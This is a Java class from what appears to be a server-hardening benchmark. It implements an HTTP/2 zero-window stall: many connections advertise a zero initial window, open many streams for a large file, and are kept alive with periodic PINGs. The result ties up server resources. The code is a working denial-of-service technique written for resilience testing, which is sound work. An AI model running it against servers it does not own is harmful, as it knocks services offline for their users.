package io.pintle.bench.hostile;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import org.eclipse.jetty.http.HttpFields;
import org.eclipse.jetty.http2.ErrorCode;
import org.eclipse.jetty.http2.api.Session;
import org.eclipse.jetty.http2.api.Stream;
import org.eclipse.jetty.http2.frames.PingFrame;
import org.eclipse.jetty.http2.frames.ResetFrame;
import org.eclipse.jetty.http2.frames.SettingsFrame;
import org.eclipse.jetty.util.Callback;

/**
 * Issue 18's second case: HTTP/2 connections whose client announces {@code SETTINGS_INITIAL_WINDOW_SIZE = 0}, then
 * asks for the large file on many streams: the server may send headers, never a byte of a body. The connections
 * stay alive (a PING every few seconds), so only the server's own clock on a stalled stream can free what the
 * streams hold. h2load cannot present a client certificate; this needs none (a /common file), but Jetty's
 * low-level client says exactly which settings it sends.
 */
final class ZeroWindow implements Attack {
    private static final long PING_EVERY_NANOS = TimeUnit.SECONDS.toNanos(5);

    private final Attacker attacker;
    private final int connections;
    private final int streams;
    private final Http2Streams h2;
    private long openNanos;
    private long lastPing;

    ZeroWindow(Attacker attacker, int connections, int streams) {
        this.attacker = attacker;
        this.connections = connections;
        this.streams = streams;
        this.h2 = new Http2Streams(attacker);
    }

    @Override
    public String description() {
        return String.format(Locale.ROOT, "%d HTTP/2 connections × %d streams `GET %s`, anonymous,"
                + " `SETTINGS_INITIAL_WINDOW_SIZE = 0`, connections kept alive with PINGs", connections, streams,
                HostileLayout.LARGE_FILE);
    }

    @Override
    public void launch() throws Exception {
        long start = System.nanoTime();
        h2.start();
        List<CompletableFuture<Stream>> opened = new ArrayList<>();
        for (int c = 0; c < connections; c++) {
            Session session = h2.connect(new Session.Listener() {
                @Override
                public Map<Integer, Integer> onPreface(Session session) {
                    return Map.of(SettingsFrame.INITIAL_WINDOW_SIZE, 0);
                }
            });
            for (int s = 0; s < streams; s++) {
                opened.add(h2.get(session, HostileLayout.LARGE_FILE, HttpFields.EMPTY,
                        new Http2Streams.StatusCounter(h2) {
                            @Override
                            public void onReset(Stream stream, ResetFrame frame, Callback callback) {
                                attacker.saw("reset by the server (" + ErrorCode.toString(frame.getError(), "?")
                                        + ")");
                                callback.succeeded();
                            }
                        }));
            }
        }
        for (CompletableFuture<Stream> stream : opened) {
            stream.get(Http2Streams.OPEN_LIMIT_SECONDS, TimeUnit.SECONDS);
        }
        // Done when every stream has its status: the server has decided which hold a worker.
        long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(Http2Streams.OPEN_LIMIT_SECONDS);
        while (h2.answered() < connections * streams && System.nanoTime() < deadline) {
            Thread.sleep(20);
        }
        openNanos = System.nanoTime() - start;
        lastPing = System.nanoTime();
    }

    @Override
    public void tick() {
        if (System.nanoTime() - lastPing >= PING_EVERY_NANOS) {
            lastPing = System.nanoTime();
            for (Session session : h2.sessions()) {
                session.ping(new PingFrame(lastPing, false), Callback.NOOP);
            }
        }
    }

    @Override
    public String delivered() {
        return String.format(Locale.ROOT, "%,d streams open, %,d with a status, in %.1f s", connections * streams,
                h2.answered(), openNanos / 1e9);
    }

    @Override
    public void close() {
        h2.close();
    }
}
